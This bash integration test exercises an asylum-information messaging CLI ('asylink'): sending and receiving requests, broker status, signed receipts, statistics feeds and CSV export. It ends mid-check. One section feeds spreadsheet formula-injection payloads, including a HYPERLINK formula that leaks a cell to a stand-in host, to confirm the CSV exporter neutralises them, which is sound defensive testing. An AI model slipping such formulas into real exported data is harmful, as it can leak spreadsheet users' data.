#!/usr/bin/env bash
# The node commands of the asylink CLI against a real broker: DE sends an
# InformationRequest written as JSON (asylink send --payload --wait), FR reads it
# decoded (asylink recv --json, and the human form), raw files travel as
# base64, errors name the field; asylink status reads the broker's
# /status.json (table and --json) and shows FR's queue; DE lists, exports
# and verifies FR's signed receipt (asylink receipts); DE publishes
# MonthlyStatistics and an analyst follows it as CSV and JSON lines.
source "$(dirname "$0")/client_lib.sh"
client_init "$@"
HTTP_PORT=$(free_port)
sed -i "s/^listen =\$/listen = 127.0.0.1:$HTTP_PORT/" "$CONF"
start_broker || exit 1
write_node_ini DE
write_node_ini FR

# json_get FILE EXPR: evaluates a Python expression over the JSON value j in FILE.
json_get() { python3 -c "import json,sys; j=json.load(open(sys.argv[1])); print($2)" "$1" 2>/dev/null; }
# line_get FILE N EXPR: the same over the N-th JSON line (1-based).
line_get() {
  python3 -c "import json,sys; j=json.loads(open(sys.argv[1]).read().splitlines()[int(sys.argv[2])-1]); print($3)" \
    "$1" "$2" 2>/dev/null
}

cat >"$T/request.json" <<'JSON'
{
  "request_id": "DE-2026-000123",
  "requesting_state": "DE",
  "requested_state": "FR",
  "legal_basis": "LEGAL_BASIS_DUBLIN_III_ART_34",
  "legal_basis_text": "Regulation (EU) 604/2013 Art. 34(2)(g)",
  "applicantReference": "8123456-475",
  "applicant": {"family_name": "Doe", "given_names": "Jane", "birth_year": 1990,
                "sex": "SEX_FEMALE", "citizenships": ["SY"]},
  "questions": [
    {"question_id": "Q1", "topic": "QUESTION_TOPIC_PREVIOUS_APPLICATION",
     "text": "Stage and decision of the application lodged in 2024?"},
    {"question_id": "Q2", "topic": "QUESTION_TOPIC_FAMILY", "text": "Relatives in France?"}
  ],
  "applicant_consent": true,
  "requested_ms": 1793491200000,
  "reply_deadline_ms": "1796515200000",
  "contact_unit": "Dublin unit"
}
JSON

echo "== send"
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest \
  --payload "$T/request.json" --expires 7d --wait 30 >"$T/send1.out" 2>"$T/send1.err"
check_eq "send --wait exits 0" "$?" 0
check_eq "no warning with today's spellings" "$(cat "$T/send1.err")" ""
ID1=$(sed -n 1p "$T/send1.out")
check "send prints the message id ($ID1)" grep -qE '^[0-9a-f]{8}-[0-9a-f]{4}-7' "$T/send1.out"
check_eq "send --wait reports the outcome" "$(sed -n 2p "$T/send1.out")" accepted

"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest --payload - \
  --wait 30 --json <"$T/request.json" >"$T/send2.json" 2>"$T/send2.err"
check_eq "send --payload - (stdin) with --json exits 0" "$?" 0
check_eq "its JSON says accepted" "$(json_get "$T/send2.json" 'j["state"]')" accepted
check_eq "InformationRequest goes as PERSONAL by default" \
  "$(json_get "$T/send2.json" 'j["classification"]')" PERSONAL

"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest --class LIMITED \
  --payload "$T/request.json" --wait 30 >"$T/send-limited.out" 2>"$T/send-limited.err"
check_eq "an InformationRequest sent --class LIMITED is refused (exit 1)" "$?" 1
check "with CLASSIFICATION and what to do" \
  grep -q "CLASSIFICATION.*must travel as ASYLINK_PERSONAL" "$T/send-limited.err"
check_eq "and nothing is printed on stdout" "$(cat "$T/send-limited.out")" ""

printf 'plain bytes, not protobuf\n' >"$T/note.txt"
"$ASYLINK" send --config "$T/DE.ini" --to FR --file "$T/note.txt" --content-type text/plain \
  --class LIMITED --wait 30 >"$T/send3.out" 2>"$T/send3.err"
check_eq "send --file --content-type exits 0" "$?" 0

echo "== status"
# The broker refreshes its snapshot periodically: poll until FR's queue shows all three.
depth=""
for _ in $(seq 1 50); do
  "$ASYLINK" status --http "127.0.0.1:$HTTP_PORT" --json >"$T/status.json" 2>"$T/status.err"
  depth=$(json_get "$T/status.json" '[n["depth"] for n in j["nodes"] if n["node_id"]=="FR"][0]')
  [[ $depth == 3 ]] && break
  sleep 0.2
done
check_eq "status --json parses and shows FR's queue" "$depth" 3
check_eq "status --json names the broker" "$(json_get "$T/status.json" 'j["broker_node_id"]')" BROKER.EU
"$ASYLINK" status --http "127.0.0.1:$HTTP_PORT" >"$T/status.txt" 2>&1
check_eq "human status exits 0" "$?" 0
check "human status has the queue table header" grep -qE '^NODE +CONNECTED +WAITING' "$T/status.txt"
check "human status has FR's row with 3 waiting" grep -qE '^FR +(yes|no) +3 ' "$T/status.txt"
check "human status names the broker" grep -q 'BROKER.EU' "$T/status.txt"
check "the counters' header says DEAD-LETTERED in full (DEAD LETTERS: those stored now)" \
  grep -qE '^ACCEPTED +PUBLISHED +DUPLICATES +REJECTED +DELIVERED +ACKED +NACKED +DEAD-LETTERED +EXPIRED *$' \
  "$T/status.txt"
check "  the queue table's DEAD LETTERS" grep -qE '^NODE +CONNECTED +WAITING +BYTES +IN FLIGHT +DEAD LETTERS$' \
  "$T/status.txt"
check "the store line counts in the right number" \
  grep -qE '^store +[0-9]+ messages?, [0-9]+ queued, ([02-9]|[0-9]{2,}) dead letters, ' "$T/status.txt"
check "human status shows when the broker's and the CA's certificates end" \
  grep -qE "^certificates +the broker's ends 20[0-9-]+T[0-9:]+Z \(in 36[45] days\), the CA's 20[0-9-]+T[0-9:]+Z \(in 36(49|50) days\)$" "$T/status.txt"
"$ASYLINK" status --config "$CONF" --json >"$T/status-conf.json" 2>"$T/status-conf.err"
check_eq "status --config broker.ini finds the HTTP address itself (exit 0)" "$?" 0
check_eq "... and reads the same broker" "$(json_get "$T/status-conf.json" 'j["broker_node_id"]')" BROKER.EU
sed 's/^listen = .*/listen = 0.0.0.0:'"$HTTP_PORT"'/' "$CONF" >"$T/broker-any.ini"
"$ASYLINK" status --config "$T/broker-any.ini" >/dev/null 2>&1
check_eq "a listener on 0.0.0.0 is asked on loopback" "$?" 0
sed 's/^listen = .*/listen =/' "$CONF" >"$T/broker-nohttp.ini"
"$ASYLINK" status --config "$T/broker-nohttp.ini" >/dev/null 2>"$T/status-off.err"
check_eq "status --config of a broker without HTTP fails (exit 1)" "$?" 1
check "... saying the listener is off and what to set" grep -q 'HTTP listener is off (\[http\] listen is empty): set listen = ' "$T/status-off.err"
printf '[log]\nlevel = info\n' >"$T/neither.ini"
"$ASYLINK" status --config "$T/neither.ini" >/dev/null 2>"$T/status-neither.err"
check_eq "status --config of a file that is neither a broker's nor a node's fails (exit 1)" "$?" 1
check "... saying so" grep -q "neither a broker's configuration" "$T/status-neither.err"
grep -v '^data_dir' "$T/DE.ini" | sed '/^\[node\]/a admin_endpoint = tcp://127.0.0.1:7401' >"$T/ops-like.ini"
"$ASYLINK" status --config "$T/ops-like.ini" >/dev/null 2>"$T/status-ops.err"
check_eq "status --config of an operator's configuration (no data_dir) is refused (exit 2)" "$?" 2
check "... saying what to use instead" grep -q \
  "^asylink: status: $T/ops-like.ini: CONFIG: an operator's configuration (no \[node\] data_dir): .* give --http HOST:PORT .* or --config BROKER.ini; for its nodes and queues the admin commands take this file: asylink nodes --config $T/ops-like.ini" \
  "$T/status-ops.err"
"$ASYLINK" status --config "$CONF" --http 127.0.0.1:1 >/dev/null 2>&1
check_eq "--config and --http together are a usage error" "$?" 2
cat "$T/status.txt" | sed 's/^/      | /'

echo "== receipts before FR has the message"
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" --json >"$T/rc0.json" 2>"$T/rc0.err"
check_eq "receipts without --wait lists (exit 0)" "$?" 0
check_eq "... none yet, and says it is not complete" \
  "$(json_get "$T/rc0.json" '[len(j["receipts"]), j["complete"]]')" "[0, False]"
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" >"$T/rc0.txt" 2>&1
check "... as its first line does" grep -q "^$ID1: 0 receipts (incomplete: not every recipient" "$T/rc0.txt"
check_eq "... and that the broker accepted it (this node's outbox)" \
  "$(json_get "$T/rc0.json" 'j["broker"]')" accepted
check "... in words" grep -q "^$ID1: 0 receipts (incomplete: .*); broker: accepted\$" "$T/rc0.txt"

echo "== recv"
"$ASYLINK" recv --config "$T/FR.ini" --json --count 1 --idle 30 >"$T/recv1.jsonl" 2>"$T/recv1.err"
check_eq "recv --json --count 1 exits 0" "$?" 0
check_eq "one JSON line" "$(lines "$T/recv1.jsonl")" 1
check_eq "its id is the first message's" "$(line_get "$T/recv1.jsonl" 1 'j["message_id"]')" "$ID1"
check_eq "sender" "$(line_get "$T/recv1.jsonl" 1 'j["sender"]')" DE
check_eq "content type" "$(line_get "$T/recv1.jsonl" 1 'j["content_type"]')" asylink.v1.InformationRequest
check_eq "classification" "$(line_get "$T/recv1.jsonl" 1 'j["classification"]')" PERSONAL
check_eq "payload decoded: request_id" \
  "$(line_get "$T/recv1.jsonl" 1 'j["payload"]["request_id"]')" DE-2026-000123
check_eq "payload decoded: enum by name" \
  "$(line_get "$T/recv1.jsonl" 1 'j["payload"]["legal_basis"]')" LEGAL_BASIS_DUBLIN_III_ART_34
check_eq "payload decoded: camelCase input field" \
  "$(line_get "$T/recv1.jsonl" 1 'j["payload"]["applicant_reference"]')" 8123456-475
check_eq "payload decoded: nested message" \
  "$(line_get "$T/recv1.jsonl" 1 'j["payload"]["applicant"]["family_name"]')" Doe
check_eq "payload decoded: repeated messages" \
  "$(line_get "$T/recv1.jsonl" 1 'j["payload"]["questions"][1]["topic"]')" QUESTION_TOPIC_FAMILY
check_eq "payload decoded: uint64 given as a string" \
  "$(line_get "$T/recv1.jsonl" 1 'j["payload"]["reply_deadline_ms"]')" 1796515200000
check_eq "expiry set by --expires 7d (about 7 days after creation)" \
  "$(line_get "$T/recv1.jsonl" 1 'abs(j["expires_ms"]-j["created_ms"]-7*86400000) < 60000')" True

"$ASYLINK" recv --config "$T/FR.ini" --count 1 --idle 30 >"$T/recv2.txt" 2>"$T/recv2.err"
check_eq "human recv exits 0" "$?" 0
check "human recv shows the content type" grep -qE '^content type +asylink.v1.InformationRequest' "$T/recv2.txt"
check "human recv shows the payload as JSON" grep -q '"request_id": "DE-2026-000123"' "$T/recv2.txt"

"$ASYLINK" recv --config "$T/FR.ini" --json --count 1 --idle 30 >"$T/recv3.jsonl" 2>"$T/recv3.err"
check_eq "a raw file arrives as base64" \
  "$(line_get "$T/recv3.jsonl" 1 'j["payload_encoding"] + " " + __import__("base64").b64decode(j["payload"]).decode().strip()')" \
  "base64 plain bytes, not protobuf"
check_eq "with its content type" "$(line_get "$T/recv3.jsonl" 1 'j["content_type"]')" text/plain

"$ASYLINK" recv --config "$T/FR.ini" --count 1 --idle 2 >"$T/recv4.out" 2>"$T/recv4.err"
check_eq "acked messages are not shown again (recv --count 1 times out: exit 1)" "$?" 1
check "the timeout is reported as TIMEOUT" grep -q '^asylink: recv: TIMEOUT: 0 of 1' "$T/recv4.err"

echo "== receipts"
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" --wait 30 --json >"$T/rc.json" 2>"$T/rc.err"
check_eq "receipts --wait exits 0 once FR's receipt is in" "$?" 0
check_eq "FR's receipt is listed" "$(json_get "$T/rc.json" 'j["receipts"][0]["recipient"]')" FR
check_eq "as delivered" "$(json_get "$T/rc.json" 'j["receipts"][0]["status"]')" delivered
check_eq "complete" "$(json_get "$T/rc.json" 'j["complete"]')" True
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" >"$T/rc.txt" 2>&1
check "human list shows FR delivered" grep -qE '^FR +delivered +20' "$T/rc.txt"
check "... and that the receipts are complete" grep -q "^$ID1: 1 receipt (complete: every recipient took it)" "$T/rc.txt"
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" --export FR --out "$T/evidence.bin" \
  >/dev/null 2>"$T/rc2.err"
check_eq "export writes the evidence" "$?" 0
check_eq "the evidence file is private (0600)" "$(stat -c %a "$T/evidence.bin")" 600
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" --export FR --out "$T/evidence.bin" \
  >/dev/null 2>"$T/rc3.err"
check_eq "export does not overwrite (exit 1)" "$?" 1
check_eq "... in the CLI's error form, saying what to do" "$(cat "$T/rc3.err")" \
  "asylink: receipts: EXISTS: $T/evidence.bin exists: not overwritten (remove it, or choose another --out)"
"$ASYLINK" receipts --config "$T/DE.ini" --verify "$T/evidence.bin" --message "$ID1" >"$T/rv.out" 2>"$T/rv.err"
check_eq "verify accepts the evidence" "$?" 0
check "and names FR" grep -qE '^valid receipt: FR +delivered' "$T/rv.out"
python3 -c "import sys; b=bytearray(open(sys.argv[1],'rb').read()); b[len(b)//2]^=1; open(sys.argv[2],'wb').write(b)" \
  "$T/evidence.bin" "$T/tampered.bin"
"$ASYLINK" receipts --config "$T/DE.ini" --verify "$T/tampered.bin" >/dev/null 2>"$T/rv2.err"
check_eq "a flipped bit is not valid evidence (exit 1)" "$?" 1
"$ASYLINK" receipts --config "$T/DE.ini" --verify "$T/evidence.bin" \
  --message 01900000-0000-7000-8000-000000000000 >/dev/null 2>"$T/rv3.err"
check_eq "valid evidence, but not for another message (exit 1)" "$?" 1
check "... NOT_FOUND" grep -q 'NOT_FOUND' "$T/rv3.err"
"$ASYLINK" receipts --config "$T/DE.ini" --message 01900000-0000-7000-8000-000000000000 >/dev/null 2>"$T/rc4.err"
check_eq "receipts of a message DE never sent: exit 1" "$?" 1
"$ASYLINK" receipts --config "$T/DE.ini" --message not-a-uuid >/dev/null 2>&1
check_eq "a bad --message is a usage error" "$?" 2
"$ASYLINK" receipts --config "$T/DE.ini" --message "$ID1" --export FR >/dev/null 2>"$T/rc5.err"
check_eq "--export without --out is a usage error" "$?" 2
check "... saying they go together" grep -q -- '--export and --out go together' "$T/rc5.err"

echo "== feeds: publish, subscribe --format csv|jsonl"
write_node_ini EUAA.ANALYSIS
cat >"$T/stats.json" <<'JSON'
{"reporting_country": "DE", "period": {"year": 2026, "month": 10},
 "rows": [
  {"citizenship": "SY", "applications_total": 5120, "first_time_applicants": 4870,
   "repeated_applicants": 250, "unaccompanied_minors": 310,
   "decisions": {"refugee_status": 1200, "subsidiary_protection": 2300, "total": 3500},
   "pending_end_of_month": 41000, "withdrawn": 95},
  {"citizenship": "AF", "applications_total": 3900, "suppressed": ["unaccompanied_minors", "withdrawn"]}
 ],
 "total": {"citizenship": "TOTAL", "applications_total": 9020},
 "data_provider": "BAMF", "notes": "first release, with a comma"}
JSON
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --payload "$T/stats.json" --timeout 30 >"$T/pub.out" 2>"$T/pub.err"
check_eq "publish exits 0" "$?" 0
"$ASYLINK" publish --config "$T/DE.ini" --topic coi.SY --type asylink.v1.MonthlyStatistics \
  --payload "$T/stats.json" --timeout 30 >"$T/pub-denied.out" 2>"$T/pub-denied.err"
check_eq "a publish the policy forbids (DE on coi.SY) exits 1" "$?" 1
check "and says the broker rejected it" grep -q 'rejected by the broker.*POLICY' "$T/pub-denied.err"
DENIED_ID=$(head -n 1 "$T/pub-denied.out")
"$ASYLINK" receipts --config "$T/DE.ini" --message "$DENIED_ID" --json >"$T/rc-denied.json" 2>&1
check_eq "receipts of the refused publication: the broker rejected it, POLICY" \
  "$(json_get "$T/rc-denied.json" '[j["broker"], j["broker_code"]]')" "['rejected', 'POLICY']"
"$ASYLINK" receipts --config "$T/DE.ini" --message "$DENIED_ID" >"$T/rc-denied.txt" 2>&1
check "... in words" grep -q "^$DENIED_ID: 0 receipts (.*); broker: rejected (POLICY)\$" "$T/rc-denied.txt"
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.FR --type asylink.v1.MonthlyStatistics \
  --payload "$T/stats.json" --timeout 30 >/dev/null 2>"$T/pub-fr.err"
check_eq "DE cannot publish on France's topic stats.monthly.FR (stats.monthly.{sender}): exit 1" "$?" 1
check "... POLICY, naming DE and the topic" \
  grep -q 'rejected by the broker: POLICY: policy forbids DE to publish PUBLIC messages on stats.monthly.FR' "$T/pub-fr.err"
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-csv \
  --start earliest --count 1 --idle 30 --format csv >"$T/sub.csv" 2>"$T/sub.err"
check_eq "subscribe --format csv exits 0" "$?" 0
check_eq "CSV: a header and one row per citizenship row plus the total" "$(lines "$T/sub.csv")" 4
check "CSV header starts with the period and the row columns" \
  grep -q '^reporting_country,year,month,citizenship,applications_total,first_time_applicants,' "$T/sub.csv"
check "CSV header flattens the decisions" grep -q ',decisions_refugee_status,' "$T/sub.csv"
check "CSV row of SY" grep -qE '^DE,2026,10,SY,5120,4870,250,310,1200,2300,' "$T/sub.csv"
check "CSV row of AF lists its suppressed cells" grep -qE '^DE,2026,10,AF,3900,.*,unaccompanied_minors;withdrawn,' "$T/sub.csv"
check "CSV row of the total (unset decisions read as zeros)" \
  grep -qE '^DE,2026,10,TOTAL,9020,0,0,0,0,0,0,0,0,0,0,0,0,0,,' "$T/sub.csv"
PUB_ID=$(head -n 1 "$T/pub.out")
check "CSV header ends with the provenance columns" \
  grep -qE '^reporting_country,.*,suppressed,topic,message_id,sender,published$' "$T/sub.csv"
check_eq "every CSV row carries its topic, message id, sender and publication time" \
  "$(grep -cE ",stats\.monthly\.DE,$PUB_ID,DE,20[0-9]{2}-[01][0-9]-[0-3][0-9]T[0-9:.]+Z$" "$T/sub.csv")" 3
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-csv \
  --count 1 --idle 2 --format csv >/dev/null 2>&1
check_eq "acked: the durable subscription does not show it again" "$?" 1
# (another node follows the same topic with a subscription of its own)
write_node_ini EUAA
"$ASYLINK" subscribe --config "$T/EUAA.ini" --prefix stats.monthly --subscription cli-jsonl \
  --count 1 --idle 30 --json >"$T/sub.jsonl" 2>"$T/sub2.err"
check_eq "subscribe (jsonl) by EUAA exits 0" "$?" 0
check_eq "jsonl: topic" "$(line_get "$T/sub.jsonl" 1 'j["topic"]')" stats.monthly.DE
check_eq "jsonl: decoded payload" \
  "$(line_get "$T/sub.jsonl" 1 'j["payload"]["rows"][0]["decisions"]["subsidiary_protection"]')" 2300
for f in pub.err sub.err sub2.err; do
  [[ -s $T/$f ]] && show "$T/$f"
done

echo "== LIMITED feed publish"
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --class LIMITED \
  --type asylink.v1.MonthlyStatistics --payload "$T/stats.json" --timeout 30 --json \
  >"$T/pub-lim.json" 2>"$T/pub-lim.err"
check_eq "publish --class LIMITED (encrypted to the Directory's readers) exits 0" "$?" 0
check_eq "publish --json says accepted" "$(json_get "$T/pub-lim.json" 'j["state"]')" accepted
check_eq "... for the topic" "$(json_get "$T/pub-lim.json" 'j["topic"]')" stats.monthly.DE
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-csv \
  --count 1 --idle 30 >"$T/sub-lim.jsonl" 2>"$T/sub-lim.err"
check_eq "the analyst reads the LIMITED message" "$(line_get "$T/sub-lim.jsonl" 1 'j["classification"]')" LIMITED

echo "== several messages in one batch (publish --lines)"
for m in 7 8 9; do
  echo "{\"reporting_country\": \"DE\", \"period\": {\"year\": 2026, \"month\": $m}}"
done >"$T/months.jsonl"
echo >>"$T/months.jsonl" # a blank line is skipped
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --payload "$T/months.jsonl" --lines --json --timeout 30 >"$T/pub-lines.jsonl" 2>"$T/pub-lines.err"
check_eq "publish --lines of three payloads exits 0" "$?" 0
check_eq "one outcome line per payload" "$(lines "$T/pub-lines.jsonl")" 3
check_eq "all three accepted" "$(grep -c '"state": *"accepted"' "$T/pub-lines.jsonl")" 3
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-csv \
  --count 3 --idle 30 >"$T/sub-lines.jsonl" 2>"$T/sub-lines.err"
check_eq "the analyst reads the three (each verified alone)" "$(lines "$T/sub-lines.jsonl")" 3
check_eq "in order: month 9 last" "$(line_get "$T/sub-lines.jsonl" 3 'j["payload"]["period"]["month"]')" 9
echo '{"reporting_country": "DE", "colour": "blue"}' >>"$T/months.jsonl"
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --payload "$T/months.jsonl" --lines --timeout 30 >/dev/null 2>"$T/pub-lines-bad.err"
check_eq "a bad line fails the whole publish (exit 1)" "$?" 1
check "naming the line" grep -q 'line 5 as asylink.v1.MonthlyStatistics: .*colour' "$T/pub-lines-bad.err"
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --file "$T/months.jsonl" --lines >/dev/null 2>&1
check_eq "--lines needs --payload (usage, exit 2)" "$?" 2

echo "== subscribe --type: one content type, one CSV header"
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --file "$T/note.txt" \
  --type text/plain --timeout 30 >"$T/pub-text.out" 2>"$T/pub-text.err"
check_eq "a text/plain feed message is published too" "$?" 0
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --payload "$T/stats.json" --timeout 30 >"$T/pub2.out" 2>"$T/pub2.err"
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-types \
  --start earliest --idle 3 --format csv >"$T/sub-mixed.csv" 2>/dev/null
check_eq "without --type each change of type starts a new header" \
  "$(grep -cE '^(reporting_country|topic),' "$T/sub-mixed.csv")" 3
check "the other type's rows carry the provenance first" \
  grep -qE "^topic,message_id,sender,published,created_ms,payload_base64\$" "$T/sub-mixed.csv"
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-one-type \
  --start earliest --idle 3 --format csv --type asylink.v1.MonthlyStatistics >"$T/sub-one.csv" 2>/dev/null
check_eq "with --type asylink.v1.MonthlyStatistics: one header" "$(grep -c '^reporting_country,' "$T/sub-one.csv")" 1
check_eq "... and only its rows (3 per message, 3 messages: PUBLIC, LIMITED, PUBLIC)" \
  "$(lines "$T/sub-one.csv")" 10
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-one-type \
  --idle 3 --json >"$T/sub-rest.jsonl" 2>/dev/null
check_eq "the other type stayed for a later subscribe" "$(line_get "$T/sub-rest.jsonl" 1 'j["content_type"]')" text/plain

echo "== subscribe --format csv: payload text a spreadsheet would run is written as text"
cat >"$T/formula.json" <<'JSON'
{"reporting_country": "DE", "period": {"year": 2026, "month": 11},
 "rows": [{"citizenship": "=HYPERLINK(\"http://example.invalid/\"&A1,\"SY\")", "applications_total": 1},
          {"citizenship": "@SUM(A1:A9)", "applications_total": 2},
          {"citizenship": "-2+3", "applications_total": 3}]}
JSON
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --payload "$T/formula.json" --timeout 30 >/dev/null 2>"$T/pub-formula.err"
check_eq "a MonthlyStatistics with formula-like citizenship cells is published" "$?" 0
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-formula \
  --start earliest --idle 3 --format csv --type asylink.v1.MonthlyStatistics \
  >"$T/sub-formula.csv" 2>/dev/null
check "=HYPERLINK(...) is written quoted with a leading apostrophe" \
  grep -qF 'DE,2026,11,"'"'"'=HYPERLINK(""http://example.invalid/""&A1,""SY"")",1,' "$T/sub-formula.csv"
check "so are @ and - at the start of text" \
  bash -c "grep -qF \"DE,2026,11,\\\"'@SUM(A1:A9)\\\",2,\" '$T/sub-formula.csv' &&
           grep -qF \"DE,2026,11,\\\"'-2+3\\\",3,\" '$T/sub-formula.csv'"
check "no cell starts with a formula character unquoted" \
  bash -c "! grep -qE '(^|,)[=@+-][^,]' '$T/sub-formula.csv'"
check "numbers are not touched (the 2026,11 period and counts)" grep -qE '^DE,2026,11,.*,1,' "$T/sub-formula.csv"
"$ASYLINK" subscribe --config "$T/EUAA.ANALYSIS.ini" --prefix stats --subscription cli-formula-j \
  --start earliest --idle 3 --json --type asylink.v1.MonthlyStatistics >"$T/sub-formula.jsonl" 2>/dev/null
check_eq "JSON lines keep the exact text" \
  "$(tail -n 1 "$T/sub-formula.jsonl" | python3 -c 'import json,sys; print(json.load(sys.stdin)["payload"]["rows"][1]["citizenship"])')" \
  "@SUM(A1:A9)"

echo "== errors"
echo '{"request_id": "X", "colour": "blue"}' >"$T/bad.json"
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest \
  --payload "$T/bad.json" >/dev/null 2>"$T/bad.err"
check_eq "an unknown JSON key fails (exit 1)" "$?" 1
check "the error names the key" grep -q "^asylink: send: .*: BAD_FIELD: unknown field 'colour'" "$T/bad.err"
echo '{"questions": [{"topic": 7.5}]}' >"$T/bad2.json"
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest \
  --payload "$T/bad2.json" >/dev/null 2>"$T/bad2.err"
check "a wrong type names the field path" grep -q 'BAD_FIELD: questions\[0\].topic' "$T/bad2.err"
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.Nope --payload "$T/bad.json" \
  >/dev/null 2>&1
check_eq "an unknown --type is a usage error (exit 2)" "$?" 2
"$ASYLINK" recv --config "$T/FR.ini" --count 0 >/dev/null 2>&1
check_eq "recv --count 0 is a usage error" "$?" 2
"$ASYLINK" status --http "127.0.0.1:$(free_port)" --timeout 2 >/dev/null 2>"$T/st.err"
check_eq "status against a closed port fails (exit 1)" "$?" 1
check "and says UNAVAILABLE" grep -q '^asylink: status: .*: UNAVAILABLE: ' "$T/st.err"
for cmd in send recv publish subscribe status receipts; do
  check "asylink $cmd --help" "$ASYLINK" "$cmd" --help
done
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest \
  --payload "$T/request.json" --wait 5 --timeout 5 >/dev/null 2>"$T/wt.err"
check_eq "send --wait and --timeout together is a usage error" "$?" 2
check "... saying so" grep -q -- '--wait does not go with --timeout' "$T/wt.err"

echo "== old spellings (accepted for one release, with a warning on stderr)"
# deprecated OLD NEW FILE: FILE holds the warning that --OLD is now --NEW.
deprecated() {
  check "$1 warns: now $2" grep -q -- "warning: $1 is deprecated and will be removed in the next release; use $2" "$3"
}
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest \
  --json "$T/request.json" --wait --json-output --timeout 30 >"$T/old-send.json" 2>"$T/old-send.err"
check_eq "send --json FILE --wait --json-output --timeout 30 still works" "$?" 0
check_eq "... and waits for the outcome (accepted)" "$(json_get "$T/old-send.json" 'j["state"]')" accepted
deprecated "--json FILE|-" "--payload FILE|-" "$T/old-send.err"
deprecated "--wait without SECONDS" "--wait SECONDS" "$T/old-send.err"
deprecated "--json-output" "--json" "$T/old-send.err"
OLD_ID=$(json_get "$T/old-send.json" 'j["message_id"]')
check_eq "stdout holds only the result" "$(grep -c deprecated "$T/old-send.json")" 0
"$ASYLINK" send --config "$T/DE.ini" --to FR --type asylink.v1.InformationRequest --json - \
  --json-output <"$T/request.json" >"$T/old-send2.json" 2>"$T/old-send2.err"
check_eq "send --json - (stdin, old) still works" "$?" 0
deprecated "--json FILE|-" "--payload FILE|-" "$T/old-send2.err"
"$ASYLINK" recv --config "$T/FR.ini" --json --count 2 --timeout 30 >"$T/old-recv.jsonl" 2>"$T/old-recv.err"
check_eq "recv --timeout (old --idle) still works" "$?" 0
check_eq "... and received both" "$(lines "$T/old-recv.jsonl")" 2
deprecated "--timeout" "--idle" "$T/old-recv.err"
"$ASYLINK" receipts --config "$T/DE.ini" --id "$OLD_ID" --wait 30 --json-output >"$T/old-rc.json" \
  2>"$T/old-rc.err"
check_eq "receipts --id --json-output still works" "$?" 0
check_eq "... and lists FR's receipt" "$(json_get "$T/old-rc.json" 'j["receipts"][0]["recipient"]')" FR
deprecated "--id" "--message" "$T/old-rc.err"
deprecated "--json-output" "--json" "$T/old-rc.err"
"$ASYLINK" publish --config "$T/DE.ini" --topic stats.monthly.DE --type asylink.v1.MonthlyStatistics \
  --json "$T/stats.json" --timeout 30 >"$T/old-pub.out" 2>"$T/old-pub.err"
check_eq "publish --json FILE (old --payload) still works" "$?" 0
deprecated "--json FILE|-" "--payload FILE|-" "$T/old-pub.err"
"$ASYLINK" subscribe --config "$T/EUAA.ini" --prefix stats.monthly --name cli-jsonl \
  --count 1 --timeout 30 >"$T/old-sub.jsonl" 2>"$T/old-sub.err"
check_eq "subscribe --name --timeout (old --subscription --idle) still works" "$?" 0
check_eq "... and reads the message" "$(line_get "$T/old-sub.jsonl" 1 'j["topic"]')" stats.monthly.DE
deprecated "--name" "--subscription" "$T/old-sub.err"
deprecated "--timeout" "--idle" "$T/old-sub.err"

echo "== status --config NODE.ini after a crash (its PID reused)"
write_node_ini IT
"$CLIENT_TEST" --config "$T/IT.ini" recv --count 1 --timeout 60 >/dev/null 2>&1 &
IT_PID=$!
PIDS+=("$IT_PID")
wait_for "$T/node-IT/connection" 'connected=1' 20
"$ASYLINK" status --config "$T/IT.ini" >"$T/status-it.out" 2>&1
check "status --config names IT's session while it runs" grep -q '^state *connected to BROKER.EU' \
  "$T/status-it.out"
kill -KILL "$IT_PID"
wait "$IT_PID" 2>/dev/null
"$ASYLINK" status --config "$T/IT.ini" >"$T/status-it.out" 2>&1
check "after kill -9: no client running" grep -q 'no client running' "$T/status-it.out"
# The kernel gives the dead client's PID to another process: a sleep here.
sleep 60 </dev/null >/dev/null 2>&1 &
REUSED=$!
PIDS+=("$REUSED")
sed -i "s/^pid=.*/pid=$REUSED/" "$T/node-IT/connection"
"$ASYLINK" status --config "$T/IT.ini" >"$T/status-it.out" 2>&1
check "with its PID reused by another process: still no client running" \
